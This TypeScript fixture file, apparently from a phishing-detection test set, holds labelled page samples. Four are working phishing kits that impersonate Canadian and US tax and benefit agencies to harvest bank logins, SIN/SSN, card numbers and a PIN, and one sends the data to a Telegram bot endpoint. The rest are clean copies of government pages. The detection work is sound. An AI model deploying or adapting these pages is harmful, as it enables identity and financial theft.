import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, b64, baseCss, formCss, gcCss, mapleLeaf, monogram } from '../parts/yp-kit.js';
import { fileRoute, jsRoute, jsonRoute, pe } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yp-gov-cra-refund-bank-picker',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: 'https://cra-arc-depot.com/refund/index.php?ref=7Q2K8',
  routes: {
    'cra-arc-depot.com/refund/index.php': htmlRoute(doc({
      title: 'Canada Revenue Agency - Interac e-Transfer Refund',
      lang: 'en-CA',
      css: baseCss + gcCss + `.banks{display:grid;grid-template-columns:repeat(4,1fr);gap:14px;margin:20px 0}.banks a{display:flex;align-items:center;justify-content:center;height:80px;border:1px solid #ccc;border-radius:4px;text-decoration:none;color:#333;font-weight:700;font-size:16px}.banks a:hover{border-color:#26374a;background:#f5f5f5}.amt{font-size:30px;color:#278400;font-weight:700}`,
      body: `<header class="gc"><div class="wrap"><a class="fip" href="#">${mapleLeaf}<span>Government of Canada<br>Gouvernement du Canada</span></a><a class="lang" href="?lang=fr">Français</a></div></header>
<nav class="bc"><div class="wrap">Canada.ca › Taxes › Canada Revenue Agency › Refunds</div></nav>
<main class="wrap"><h1>Interac e-Transfer refund</h1>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of:</p><p class="amt">$487.61 CAD</p>
<div class="alert-info">Reference number: <b>CRA-7Q2K8-2024</b><br>To receive your refund by Interac e-Transfer, please select your financial institution below and sign in to confirm the deposit. The refund must be accepted within 48 hours or it will be returned to the Receiver General.</div>
<h2>Select your financial institution</h2>
<div class="banks"><a href="bank.php?b=rbc" style="color:#005daa">RBC</a><a href="bank.php?b=td" style="color:#34a853">TD</a><a href="bank.php?b=bmo" style="color:#0079c1">BMO</a><a href="bank.php?b=scotia" style="color:#ec111a">Scotiabank</a><a href="bank.php?b=cibc" style="color:#c41f3e">CIBC</a><a href="bank.php?b=desjardins" style="color:#00874e">Desjardins</a><a href="bank.php?b=nbc" style="color:#e41c23">National Bank</a><a href="bank.php?b=tangerine" style="color:#f28500">Tangerine</a></div>
<p style="font-size:15px">Date modified: 2024-03-11</p></main>
<footer class="gc"><div class="wrap">Government of Canada · <a href="#">Terms and conditions</a> · <a href="#">Privacy</a></div></footer>`,
    })),
    'cra-arc-depot.com/refund/bank.php': htmlRoute(doc({
      title: 'TD EasyWeb',
      css: baseCss + formCss + `body{background:#f3f3f3}.top{background:#1a5336;padding:14px 30px;color:#fff;font-weight:700}.card{max-width:420px;margin:50px auto;background:#fff;padding:30px;border-top:4px solid #34a853}.btn{background:#008a00;width:100%}`,
      body: `<div class="top">TD EasyWeb</div><div class="card"><h2 style="margin-top:0">Login to EasyWeb</h2><p class="hint">Deposit pending: <b>$487.61</b> from CANADA REVENUE AGENCY</p>
<form id="f" method="post" action="save.php"><input type="hidden" name="bank" value="td"><label>Username or Access Card</label><input name="user" required><label>Password</label><input type="password" name="pass" required><label>Security question answer (if asked)</label><input name="sq"><button class="btn" style="margin-top:16px">Login</button></form></div>
<script>document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);fetch('save.php',{method:'POST',body:d}).then(function(){location.href='wait.php?step=2'})});</script>`,
    })),
  },
},
{
  id: 'yp-gov-carbon-rebate-final-payment-form',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://canada-carbonrebate-claim.com/en/claim',
  body: doc({
    title: 'Canada Carbon Rebate – Claim your final quarterly payment',
    lang: 'en-CA',
    css: baseCss + gcCss + formCss + `.steps{display:flex;gap:10px;margin:10px 0 20px}.steps span{flex:1;border-top:5px solid #ccc;padding-top:6px;font-size:14px}.steps span.on{border-color:#26374a;font-weight:700}fieldset{border:1px solid #ccc;padding:16px 20px;margin:20px 0}legend{font-weight:700;padding:0 6px}.btn{background:#26374a}`,
    body: `<header class="gc"><div class="wrap"><a class="fip" href="#">${mapleLeaf}<span>Government of Canada<br>Gouvernement du Canada</span></a><a class="lang" href="/fr/reclamation">Français</a></div></header>
<main class="wrap"><h1>Claim your Canada Carbon Rebate</h1>
<div class="alert-warning"><b>The consumer carbon price ended on April 1.</b> Eligible households that have not received their final Canada Carbon Rebate must confirm their identity and payment information before <b id="dl">the deadline</b>. Unclaimed amounts will be cancelled.</div>
<div class="steps"><span class="on">1. Identity</span><span>2. Payment</span><span>3. Confirmation</span></div>
<form id="claim" method="post" action="/api/claim"><fieldset><legend>Identity</legend><div class="row"><div><label>First name</label><input name="fn" required></div><div><label>Last name</label><input name="ln" required></div></div><div class="row"><div><label>Social insurance number</label><input name="sin" inputmode="numeric" maxlength="11" placeholder="000-000-000" required></div><div><label>Date of birth</label><input name="dob" placeholder="YYYY-MM-DD" required></div></div><label>Address</label><input name="addr"><div class="row"><div><label>Province</label><select name="prov"><option>Ontario</option><option>Alberta</option><option>Manitoba</option><option>Saskatchewan</option><option>Nova Scotia</option><option>Newfoundland and Labrador</option><option>PEI</option><option>New Brunswick</option></select></div><div><label>Postal code</label><input name="pc"></div></div><label>Phone</label><input name="tel" type="tel"></fieldset>
<fieldset><legend>Payment of your rebate ($280.00 + interest)</legend><p class="hint">The rebate is paid to the debit or credit card on file with your financial institution. A $0.00 verification may appear on your statement.</p><label>Card number</label><input name="cc" inputmode="numeric" autocomplete="cc-number" maxlength="19" required><div class="row"><div><label>Expiry (MM/YY)</label><input name="exp" autocomplete="cc-exp" required></div><div><label>CVV</label><input name="cvv" maxlength="4" required></div></div><label>Mother's maiden name</label><input name="mmn"></fieldset>
<button class="btn">Submit claim</button></form></main>
<footer class="gc"><div class="wrap">© His Majesty the King in Right of Canada · <a href="#">Terms</a></div></footer>
<script>var d=new Date(Date.now()+2*864e5);document.getElementById('dl').textContent=d.toLocaleDateString('en-CA',{month:'long',day:'numeric'});
document.getElementById('claim').addEventListener('submit',function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.ua=navigator.userAgent;
fetch('https://api.telegram.org/bot7291844613:AAHq2mX0rV8nLk4bS1cPzQ9dWjE7fT3uYo/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002214458812',text:'CCR\\n'+JSON.stringify(o,null,1)})}).finally(function(){location.href='/en/claim/confirmation'})});</script>`,
  }),
},
{
  id: 'yp-gov-irs-economic-impact-payment-claim',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://irs-gov-eip.us/getmypayment/start',
  body: doc({
    title: 'Get My Payment | Internal Revenue Service',
    css: baseCss + formCss + `body{font-family:"Source Sans Pro",Helvetica,Arial,sans-serif}.usa{background:#f0f0f0;font-size:12px;padding:4px 20px}header{background:#0d2b45;color:#fff;padding:16px 20px;font-size:26px;font-weight:700}main{max-width:760px;margin:30px auto;padding:0 20px}.alert{background:#e7f6f8;border-left:8px solid #00bde3;padding:14px 18px}.btn{background:#005ea2}`,
    body: `<div class="usa">🇺🇸 An official website of the United States government</div><header>IRS</header>
<main><h1>Get My Payment</h1><div class="alert">A fourth Economic Impact Payment of <b>$1,400</b> was approved for eligible individuals who did not receive all prior payments. Confirm your information to schedule direct deposit.</div>
<form method="post" action="/getmypayment/verify.php" id="eip"><label>Social Security Number or ITIN</label><input name="ssn" placeholder="XXX-XX-XXXX" maxlength="11" required><label>Date of birth</label><div class="row"><div><select name="m"><option>Month</option><option>01</option><option>02</option><option>03</option><option>04</option><option>05</option><option>06</option><option>07</option><option>08</option><option>09</option><option>10</option><option>11</option><option>12</option></select></div><div><input name="d" placeholder="Day"></div><div><input name="y" placeholder="Year"></div></div>
<label>Street address</label><input name="street"><label>ZIP code</label><input name="zip" maxlength="5">
<h2>Direct deposit</h2><label>Bank routing number</label><input name="routing" maxlength="9"><label>Account number</label><input name="acct"><label>Online banking username</label><input name="bu"><label>Online banking password</label><input type="password" name="bp"><p class="hint">Your online banking credentials let us confirm the account belongs to you so the payment is not delayed.</p>
<button class="btn">Continue</button></form></main>`,
  }),
},
{
  id: 'yp-gov-prestation-epicerie-lien-court',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://sc-gc.link/pE4rQ',
  routes: {
    'sc-gc.link/pE4rQ': redirectRoute(302, 'https://prestations-canada.org/fr/reclamation?src=sms'),
    'prestations-canada.org/fr/reclamation': htmlRoute(doc({
      title: 'Service Canada – Remboursement pour l’épicerie',
      lang: 'fr-CA',
      css: baseCss + gcCss + formCss + `.btn{background:#26374a}`,
      body: `<header class="gc"><div class="wrap"><a class="fip" href="#">${mapleLeaf}<span>Gouvernement du Canada<br>Government of Canada</span></a><a class="lang" href="#">English</a></div></header>
<main class="wrap"><h1>Remboursement pour l’épicerie 2024</h1><p>Selon nos dossiers, vous êtes admissible à un paiement unique de <b>467 $</b> au titre du remboursement pour l’épicerie. Le versement n’a pu être effectué en raison de renseignements bancaires incomplets.</p>
<div class="alert-warning">Vous devez confirmer vos renseignements dans les <b>24 heures</b> suivant la réception du message texte.</div>
<form method="post" action="/fr/reclamation/envoyer.php"><label>Nom complet</label><input name="nom" required><label>Numéro d’assurance sociale</label><input name="nas" required><label>Date de naissance</label><input name="ddn" placeholder="AAAA-MM-JJ"><label>Numéro de carte de débit ou de crédit</label><input name="carte" required><div class="row"><div><label>Date d’expiration</label><input name="exp"></div><div><label>Code de sécurité (CVV)</label><input name="cvv"></div></div><label>NIP de la carte</label><input type="password" name="nip" maxlength="6"><p><button class="btn">Recevoir mon paiement</button></p></form></main>
<footer class="gc"><div class="wrap">Service Canada · <a href="#">Avis</a></div></footer>`,
    })),
  },
},
{
  id: 'yp-clean-gov-canada-gst-credit-dates',
  label: 'clean',
  kind: 'clean-gov-benefit',
  url: 'https://www.canada.ca/en/revenue-agency/services/child-family-benefits/gsthstc-payment-dates.html',
  body: doc({
    title: 'GST/HST credit - Payment dates - Canada.ca',
    lang: 'en-CA',
    css: baseCss + gcCss,
    body: `<header class="gc"><div class="wrap"><a class="fip" href="https://www.canada.ca/en.html">${mapleLeaf}<span>Government of Canada<br>Gouvernement du Canada</span></a><a class="lang" href="https://www.canada.ca/fr/agence-revenu/services/prestations-enfants-familles/dates-versement-tps-tvh.html">Français</a></div></header>
<nav class="bc"><div class="wrap"><a href="https://www.canada.ca/en.html">Canada.ca</a> › <a href="/en/services/taxes.html">Taxes</a> › <a href="/en/revenue-agency/services/child-family-benefits.html">Benefits</a> › GST/HST credit</div></nav>
<main class="wrap"><h1>GST/HST credit: Payment dates</h1>
<p>If you are eligible for the GST/HST credit, you will get your payments on the following dates. If you do not receive your payment on the scheduled date, wait 10 working days before contacting the CRA.</p>
<table><tr><th>Payment date</th><th>Notes</th></tr><tr><td>January 5</td><td></td></tr><tr><td>April 4</td><td></td></tr><tr><td>July 5</td><td>Based on your prior-year tax return</td></tr><tr><td>October 4</td><td></td></tr></table>
<div class="alert-info"><p><b>Scam alert:</b> The CRA will never send you a text message or email with a link asking you to enter personal or banking information to receive a benefit or a refund. The CRA does not use Interac e-Transfer to pay refunds or benefits. Payments are made by direct deposit or cheque.</p><p>If you receive a suspicious message, do not click on the link. Learn how to <a href="/en/revenue-agency/corporate/security/protect-yourself-against-fraud.html">protect yourself against fraud</a>.</p></div>
<h2>Get your payments by direct deposit</h2><p>Sign in to <a href="/en/revenue-agency/services/e-services/digital-services-individuals/account-individuals.html">My Account</a> or contact your financial institution to set up or change direct deposit.</p>
<h2>Contact the CRA</h2><p>Benefits enquiries: 1-800-387-1193</p><p style="font-size:15px">Date modified: 2024-06-20</p></main>
<footer class="gc"><div class="wrap"><a href="/en/social.html">Social media</a> · <a href="/en/mobile.html">Mobile applications</a> · <a href="/en/transparency/terms.html">Terms and conditions</a> · <a href="/en/transparency/privacy.html">Privacy</a></div></footer>`,
  }),
},
{
  id: 'yp-clean-gov-irs-wheres-my-refund-form',
  label: 'clean',
  kind: 'clean-gov-refund-tool',
  url: 'https://sa.www4.irs.gov/irfof/lang/en/irfofgetstatus.jsp',
  routes: {
    'sa.www4.irs.gov/irfof/api/status': jsonRoute({ status: 'RECEIVED', message: 'We have received your tax return and it is being processed.' }),
  },
  body: doc({
    title: "Where's My Refund? | Internal Revenue Service",
    css: baseCss + formCss + `body{font-family:"Source Sans Pro",Helvetica,Arial,sans-serif}.usa{background:#f0f0f0;font-size:12px;padding:4px 20px}header{background:#0d2b45;color:#fff;padding:16px 20px;font-size:26px;font-weight:700}main{max-width:700px;margin:30px auto;padding:0 20px}.btn{background:#005ea2}fieldset{border:0;padding:0}`,
    body: `<div class="usa">🇺🇸 An official website of the United States government. <a href="#">Here's how you know</a></div><header>IRS</header>
<main><h1>Where's My Refund?</h1><p>Check the status of your refund. Information is updated once a day, usually overnight. You'll need your Social Security number or ITIN, your filing status and the exact whole-dollar refund amount shown on your return.</p>
<form id="wmr" method="post" action="/irfof/api/status"><label for="ssn">Social Security Number or ITIN</label><input id="ssn" name="ssn" inputmode="numeric" maxlength="11" autocomplete="off" required>
<fieldset><label>Tax year</label><label style="font-weight:400"><input type="radio" name="ty" value="2024" checked> 2024</label><label style="font-weight:400"><input type="radio" name="ty" value="2023"> 2023</label></fieldset>
<label for="fs">Filing status</label><select id="fs" name="fs"><option>Single</option><option>Married filing jointly</option><option>Married filing separately</option><option>Head of household</option><option>Qualifying surviving spouse</option></select>
<label for="amt">Refund amount (whole dollars)</label><input id="amt" name="amt" inputmode="numeric" required><p><button class="btn">Submit</button></p></form>
<p class="hint">The IRS doesn't initiate contact with taxpayers by email, text messages or social media to request personal or financial information. Report suspicious messages to phishing@irs.gov.</p></main>
<script>document.getElementById('wmr').addEventListener('submit',function(e){e.preventDefault();fetch('/irfof/api/status',{method:'POST',body:new FormData(this)}).then(function(r){return r.json()}).then(function(j){var p=document.createElement('p');p.textContent=j.message;document.querySelector('main').appendChild(p)})});</script>`,
  }),
},
{
  id: 'yp-clean-gov-studentaid-pslf-page',
  label: 'clean',
  kind: 'clean-gov-benefit',
  url: 'https://studentaid.gov/manage-loans/forgiveness-cancellation/public-service',
  body: doc({
    title: 'Public Service Loan Forgiveness | Federal Student Aid',
    css: baseCss + `.usa{background:#f0f0f0;font-size:12px;padding:4px 20px}header{border-bottom:4px solid #0071bc;padding:16px 20px;display:flex;justify-content:space-between}main{max-width:820px;margin:30px auto;padding:0 20px}.warn{background:#fff1d2;border-left:8px solid #ffbe2e;padding:14px 18px}.btn{display:inline-block;background:#0071bc;color:#fff;padding:12px 20px;border-radius:4px;text-decoration:none}`,
    body: `<div class="usa">🇺🇸 An official website of the United States government</div><header><b style="font-size:20px;color:#0071bc">Federal Student Aid</b><a href="https://studentaid.gov/fsa-id/sign-in/landing">Log In</a></header>
<main><h1>Public Service Loan Forgiveness (PSLF)</h1><p>If you are employed by a government or not-for-profit organization, you might be able to receive loan forgiveness under the PSLF Program. PSLF forgives the remaining balance on your Direct Loans after you have made 120 qualifying monthly payments under a qualifying repayment plan while working full-time for a qualifying employer.</p>
<p><a class="btn" href="/manage-loans/forgiveness-cancellation/public-service/public-service-loan-forgiveness-application">Use the PSLF Help Tool</a></p>
<div class="warn"><b>You never have to pay for help with your federal student aid.</b> Applying for PSLF is free. Be wary of companies that charge an enrollment or monthly fee, ask for your FSA ID, or tell you to stop making payments. Never share your FSA ID username and password with anyone.</div>
<h2>Who qualifies</h2><ul><li>Employees of U.S. federal, state, local or tribal government organizations</li><li>Employees of 501(c)(3) not-for-profit organizations</li><li>Full-time AmeriCorps or Peace Corps volunteers</li></ul>
<h2>Report a scam</h2><p>If a company asked you for money to forgive your loans, report it to the Federal Trade Commission at <a href="https://reportfraud.ftc.gov">ReportFraud.ftc.gov</a>.</p></main>`,
  }),
},
{
  id: 'yp-clean-gov-ros-myaccount-signin',
  label: 'clean',
  kind: 'clean-gov-login',
  url: 'https://www.ros.ie/myaccount-web/sign_in.html?execution=e1s1',
  body: doc({
    title: 'myAccount - Sign in',
    lang: 'en-IE',
    css: baseCss + formCss + `header{background:#004d44;color:#fff;padding:14px 0}header .wrap{display:flex;justify-content:space-between;align-items:center}main{max-width:560px;margin:36px auto;padding:0 20px}.btn{background:#004d44}.panel{border:1px solid #c9d5d3;border-radius:4px;padding:24px}`,
    body: `<header><div class="wrap"><b style="font-size:22px">Revenue</b><span><a style="color:#fff" href="/myaccount-web/sign_in.html?execution=e1s1&amp;lang=ga">Gaeilge</a> · <a style="color:#fff" href="https://www.revenue.ie/en/contact-us/index.aspx">Contact</a></span></div></header>
<main><h1>Sign in to myAccount</h1><div class="panel"><form method="post" action="/myaccount-web/sign_in.html?execution=e1s1" id="si"><input type="hidden" name="_eventId" value="submit"><input type="hidden" name="csrfToken" value="9f1b2e6c-1f83-4c7d-93a7-51be8c2d0a7e">
<label for="pps">PPSN</label><input id="pps" name="ppsn" autocomplete="username" required><label for="dob">Date of birth</label><input id="dob" name="dob" placeholder="DD/MM/YYYY" required><label for="pw">Password</label><input id="pw" type="password" name="password" autocomplete="current-password" required>
<p><button class="btn">Sign in</button></p></form><p><a href="/myaccount-web/forgotten_password.html">Forgotten password?</a> · <a href="/myaccount-web/register.html">Register for myAccount</a></p></div>
<p class="hint">Revenue will never send you a text message with a link to claim a refund or ask for your bank card details. <a href="https://www.revenue.ie/en/online-services/support/online-security/index.aspx">Online security</a>.</p></main>`,
  }),
},
{
  id: 'yp-clean-gov-ssa-my-account-landing',
  label: 'clean',
  kind: 'clean-gov-login',
  url: 'https://www.ssa.gov/myaccount/',
  body: doc({
    title: 'my Social Security | SSA',
    css: baseCss + `.usa{background:#f0f0f0;font-size:12px;padding:4px 20px}header{background:#112e51;color:#fff;padding:18px 20px}main{max-width:880px;margin:30px auto;padding:0 20px}.opts{display:flex;gap:16px}.opts a{flex:1;border:2px solid #0071bc;border-radius:6px;padding:18px;text-align:center;text-decoration:none;font-weight:700}.note{background:#e1f3f8;padding:14px 18px}`,
    body: `<div class="usa">🇺🇸 An official website of the United States government</div><header><b style="font-size:22px">Social Security</b></header>
<main><h1>my Social Security</h1><p>Create a free my Social Security account to review your Social Security Statement, verify your earnings, get estimates of future benefits, and request a replacement card.</p>
<div class="opts"><a href="https://secure.ssa.gov/RIL/SiView.action">Sign in with Login.gov</a><a href="https://secure.ssa.gov/RIL/SiView.action?idp=idme">Sign in with ID.me</a></div>
<div class="note" style="margin-top:20px"><p>Your Statement is available online in your account. You do not need to download any software to view it – it opens as a PDF in your browser. SSA will never email you an attachment or a program to open your Statement.</p></div>
<h2>Need help?</h2><p>Call 1-800-772-1213 (TTY 1-800-325-0778), Monday through Friday, 8:00 a.m. – 7:00 p.m. local time.</p></main>`,
  }),
},
];
